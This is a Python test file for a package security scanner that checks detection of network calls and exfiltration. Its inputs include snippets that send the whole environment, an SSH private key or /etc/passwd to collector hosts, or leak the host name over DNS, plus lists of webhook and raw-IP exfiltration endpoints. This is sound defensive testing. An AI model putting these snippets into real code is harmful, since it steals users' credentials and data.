"""Network calls, exfiltration endpoints and secrets sent over the network."""

from __future__ import annotations

import pytest

from stockade.analysis.model import Kind, Phase, Severity
from tests.analysis.python.helpers import code, hits, rules, scan, scan_code, threats

RUNTIME, IMPORT, INSTALL = Phase.RUNTIME, Phase.IMPORT, Phase.INSTALL


def test_network_severity_follows_the_phase() -> None:
    source = """
        import requests
        requests.get("https://pypi.test/ping")
        """
    install = scan_code(source, INSTALL)
    assert hits(install, "py-network") == [(2, INSTALL)]
    assert install[0].severity is Severity.MEDIUM
    imported = scan_code(source, IMPORT)
    assert hits(imported, "py-network") == [(2, IMPORT)]
    assert imported[0].severity is Severity.LOW


def test_library_requests_are_one_info_capability_per_file() -> None:
    findings = scan_code(
        """
        import requests, socket, urllib.request

        class Client:
            def fetch(self, url):
                return requests.get(url, timeout=10).json()

            def raw(self, host):
                return socket.create_connection((host, 80))
        """
    )
    assert hits(findings, "py-network") == [(5, RUNTIME)]
    assert findings[0].severity is Severity.INFO
    assert threats(findings) == []


@pytest.mark.parametrize(
    ("literal", "reason"),
    [
        ("https://discord.com/api/webhooks/000000/xxxx", "Discord webhook"),
        ("https://discordapp.com/api/webhooks/123/abc-def", "Discord webhook"),
        ("https://api.telegram.org/bot6000000:AAAA/sendMessage", "Telegram bot API"),
        ("https://hooks.slack.com/services/T000/B000/XXXX", "Slack webhook"),
        ("https://webhook.site/0000-1111", "webhook.site"),
        ("https://abcd.ngrok-free.app/c", "ngrok"),
        ("x1y2z3.oast.fun", "interactsh"),
    ],
)
def test_exfiltration_endpoints_are_threats(literal: str, reason: str) -> None:
    findings = scan_code(f"TARGET = {literal!r}\n")
    assert hits(findings, "py-exfil-endpoint") == [(1, RUNTIME)]
    assert reason in findings[0].message


@pytest.mark.parametrize(
    ("literal", "reason"),
    [
        ("https://pastebin.com/raw/abcd", "paste site"),
        ("http://45.61.136.22:8080/upload", "raw IP"),
        ("45.61.136.22:4444", "raw IP address and port"),
        ("https://gofile.io/d/abc", "file-drop service"),
    ],
)
def test_raw_ips_and_paste_sites_are_threats_when_code_runs_by_itself_or_sends(
    literal: str, reason: str
) -> None:
    named = scan_code(f"TARGET = {literal!r}\n")
    assert hits(named, "py-suspicious-url") == [(1, RUNTIME)]
    assert threats(named) == []
    on_import = scan_code(f"TARGET = {literal!r}\n", IMPORT)
    assert hits(on_import, "py-exfil-endpoint") == [(1, IMPORT)]
    assert reason in on_import[0].message
    sent = scan_code(
        f"""
        import requests
        TARGET = {literal!r}

        def upload(data):
            requests.post("http://" + TARGET if "//" not in TARGET else TARGET, data=data)
        """
    )
    assert hits(sent, "py-exfil-endpoint") == [(5, RUNTIME)]


@pytest.mark.parametrize(
    "literal",
    [
        "https://discord.com/api/webhooks/{id}/{token}",
        "https://api.telegram.org/bot",
        "https://bit.ly/3abcd",
        "https://downloads.pypi.xyz/tool",
    ],
)
def test_templates_shorteners_and_odd_tlds_are_weak(literal: str) -> None:
    findings = scan_code(f"URL = {literal!r}\n")
    assert hits(findings, "py-suspicious-url") == [(1, RUNTIME)]
    assert threats(findings) == []


@pytest.mark.parametrize(
    "literal",
    [
        "https://discord.com/invite/abc",
        "https://pypi.test/simple",
        "http://8.8.8.8/",
        "http://192.168.1.10:8080/",
        "http://169.254.169.254/latest/meta-data/",
        "1.2.3",
    ],
)
def test_ordinary_urls_and_addresses_are_quiet(literal: str) -> None:
    assert scan_code(f"URL = {literal!r}\n") == []


def test_docstrings_are_not_read_for_endpoints() -> None:
    findings = scan_code(
        '''
        def post(url):
            """Post to a webhook such as https://discord.com/api/webhooks/1/abc."""
        '''
    )
    assert findings == []


def test_endpoints_in_tests_and_examples_are_weak() -> None:
    findings = scan(
        {"tests/test_hooks.py": code('URL = "https://discord.com/api/webhooks/000000/xxxx"\n')}
    )
    assert hits(findings, "py-suspicious-url") == [(1, RUNTIME)]
    assert "test or example" in findings[0].message


def test_raw_ip_used_in_a_socket_connection() -> None:
    findings = scan_code(
        """
        import socket
        s = socket.socket()
        s.connect(("45.61.136.22", 443))
        """,
        IMPORT,
    )
    assert hits(findings, "py-exfil-endpoint") == [(3, IMPORT)]


def test_public_resolver_used_to_find_the_local_address_is_quiet() -> None:
    findings = scan_code(
        """
        import socket

        def local_ip():
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            s.connect(("8.8.8.8", 80))
            return s.getsockname()[0]
        """
    )
    assert threats(findings) == []


def test_environment_sent_over_the_network() -> None:
    findings = scan_code(
        """
        import json, os, urllib.request
        body = json.dumps(dict(os.environ)).encode()
        urllib.request.urlopen("https://collector.pypi.test/e", data=body)
        """,
        INSTALL,
    )
    assert hits(findings, "py-exfil-data") == [(3, INSTALL)]
    assert "whole environment" in threats(findings)[0].message


def test_credential_file_sent_through_a_helper_function() -> None:
    findings = scan_code(
        """
        import os, requests

        def send(data):
            requests.post("https://collector.pypi.test/k", data={"k": data})

        def read_key():
            with open(os.path.expanduser("~/.ssh/id_rsa")) as handle:
                return handle.read()

        def main():
            send(read_key())
        """
    )
    assert hits(findings, "py-exfil-data") == [(11, RUNTIME)]


def test_fingerprint_sent_at_install_time_but_not_at_runtime() -> None:
    source = """
        import getpass, socket, requests
        who = {"u": getpass.getuser(), "h": socket.gethostname()}
        requests.get("https://collector.pypi.test/p", params=who)
        """
    install = scan_code(source, INSTALL)
    assert hits(install, "py-exfil-data") == [(3, INSTALL)]
    runtime = scan_code(source, RUNTIME)
    assert "py-exfil-data" not in rules(runtime)


def test_dns_exfiltration_of_the_host_name() -> None:
    findings = scan_code(
        """
        import socket
        socket.gethostbyname(socket.gethostname() + ".collect.pypi.test")
        """,
        INSTALL,
    )
    assert hits(findings, "py-exfil-data") == [(2, INSTALL)]


def test_api_token_sent_to_its_api_is_normal() -> None:
    findings = scan_code(
        """
        import os, requests

        def repos():
            token = os.environ["GITHUB_TOKEN"]
            headers = {"Authorization": f"token {token}"}
            return requests.get("https://api.pypi.test/repos", headers=headers)
        """
    )
    assert threats(findings) == []
    assert hits(findings, "py-secret-env") == [(4, RUNTIME)]
    assert all(f.kind is Kind.CAPABILITY for f in findings)


def test_socket_send_of_file_contents() -> None:
    findings = scan_code(
        """
        import socket
        s = socket.create_connection(("collect.pypi.test", 9000))
        s.sendall(open("/etc/passwd", "rb").read())
        """,
        IMPORT,
    )
    assert hits(findings, "py-exfil-data") == [(3, IMPORT)]
    assert hits(findings, "py-credential-autorun") == [(3, IMPORT)]


def test_weak_urls_in_library_code_are_one_info_finding() -> None:
    findings = scan_code(
        'MIRRORS = ["https://bit.ly/a1", "https://dl.pypi.xyz/b", "https://t.ly/c"]\n'
    )
    assert hits(findings, "py-suspicious-url") == [(1, RUNTIME)]
    assert findings[0].severity is Severity.INFO
    imported = scan_code('MIRROR = "https://bit.ly/a1"\n', IMPORT)
    assert imported[0].severity is Severity.LOW


def test_url_parsing_and_host_names_are_not_network_calls() -> None:
    findings = scan_code(
        """
        import socket
        from urllib.parse import urljoin, urlparse
        HOST = urlparse("https://pypi.test/simple").hostname
        BASE = urljoin("https://pypi.test/", "simple/")
        """,
        INSTALL,
    )
    assert findings == []
